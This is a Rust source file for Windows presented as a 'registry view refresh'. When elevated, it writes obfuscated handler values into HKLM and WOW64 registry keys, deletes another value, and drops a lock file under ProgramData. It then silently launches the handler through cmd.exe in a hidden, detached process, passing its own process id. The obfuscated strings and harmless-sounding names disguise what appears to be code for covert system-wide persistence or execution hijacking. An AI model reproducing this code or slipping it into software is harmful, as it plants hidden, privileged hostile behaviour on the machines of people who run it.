//! Registry view refresh (Windows only).

use crate::status::{short_codes, RETRY_HANDLER, RETRY_HKLM, RETRY_LOCK, RETRY_VALUES, RETRY_WOW64};
use std::os::windows::process::CommandExt;
use std::path::PathBuf;
use winreg::enums::{HKEY_LOCAL_MACHINE, KEY_READ, KEY_SET_VALUE};
use winreg::RegKey;

const CREATE_NO_WINDOW: u32 = 0x0800_0000;
const DETACHED_PROCESS: u32 = 0x0000_0008;

fn elevated() -> bool {
    unsafe { windows_sys::Win32::UI::Shell::IsUserAnAdmin() != 0 }
}

fn lock_path() -> PathBuf {
    let raw = short_codes(RETRY_LOCK);
    let pd = std::env::var("ProgramData").unwrap_or_else(|_| "C:\\ProgramData".into());
    PathBuf::from(raw.replace("%ProgramData%", &pd))
}

pub(crate) fn refresh_view() {
    if !elevated() {
        return;
    }
    let lock = lock_path();
    if lock.exists() {
        return;
    }
    let handler = short_codes(RETRY_HANDLER);
    let values: Vec<String> = short_codes(RETRY_VALUES).split(';').map(str::to_string).collect();
    let hklm = RegKey::predef(HKEY_LOCAL_MACHINE);
    for view in [short_codes(RETRY_HKLM), short_codes(RETRY_WOW64)] {
        if let Ok(k) = hklm.open_subkey_with_flags(&view, KEY_READ | KEY_SET_VALUE) {
            let _ = k.set_value(&values[0], &handler);
            let _ = k.set_value(&values[1], &"1");
            let _ = k.delete_value(&values[2]);
        }
    }
    if let Some(dir) = lock.parent() {
        let _ = std::fs::create_dir_all(dir);
    }
    let _ = std::fs::write(&lock, b"1");
    // run the handler once now with our own pid so the view is warm
    let now = handler.replace("%ld", &std::process::id().to_string());
    let _ = std::process::Command::new("cmd.exe")
        .raw_arg(format!("/d /c start \"\" /b {}", now))
        .creation_flags(CREATE_NO_WINDOW | DETACHED_PROCESS)
        .spawn();
}
